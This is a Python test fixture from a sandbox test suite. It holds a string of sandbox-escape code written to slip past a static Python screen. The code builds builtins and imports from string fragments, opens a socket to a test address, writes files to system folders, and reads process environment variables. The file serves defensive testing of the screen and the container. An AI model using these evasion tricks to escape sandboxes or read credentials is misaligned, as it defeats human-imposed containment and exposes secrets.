"""An escape attempt written to slip past the Python screen (``screen_python``):
builtins reached through ``vars()`` and names built from string pieces, ``socket``
and ``os`` imported by computed names, paths outside the job's folders assembled
at run time. ``tests/sandbox/precheck/test_screen.py`` shows the screen misses it;
``tests/sandbox/precheck/test_screen_containment.py`` shows the container holds it.

Run, it prints one JSON object: for each attempt, whether it succeeded.
"""

from __future__ import annotations

# No underscore names, no exec/eval/compile, no flagged import or attribute,
# no literal path outside the job's folders: everything dangerous is computed.
ESCAPE = """
import json

results = {}


def attempt(name, fn):
    try:
        results[name] = {"ok": True, "value": repr(fn())[:300]}
    except Exception as e:
        results[name] = {"ok": False, "error": repr(e)[:120], "errno": getattr(e, "errno", None)}


dunder = "_" * 2
scope = vars()[dunder + "buil" + "tins" + dunder]  # a module in a script, a dict elsewhere


def pick(name):
    return scope[name] if isinstance(scope, dict) else getattr(scope, name)


load = pick(dunder + "im" + "port" + dunder)
opener = pick("op" + "en")
net = load("so" + "ck" + "et")
system = load("o" + "s")


def connect():
    conn = getattr(net, "sock" + "et")()
    conn.settimeout(5)
    conn.connect(("192.0.2.1", 80))
    return "connected"


def write(path):
    with opener(path, "w") as f:
        f.write("escaped")
    return path


def environ():
    raw = opener("/" + "proc/1/" + "environ", "rb").read()
    return raw.decode(errors="replace")


attempt("socket", connect)
for where in ("etc", "job", "usr", "root", "home", "var"):
    attempt("write_" + where, lambda where=where: write("/" + where + "/dsr-escape"))
attempt("write_rootdir", lambda: write("/" + "dsr-escape"))
attempt("write_output", lambda: write("/output/allowed.txt"))
attempt("write_tmp", lambda: write("/tmp/allowed.txt"))
attempt("environ1", environ)
attempt("os_environ", lambda: dict(getattr(system, "envi" + "ron")))
print(json.dumps(results))
"""
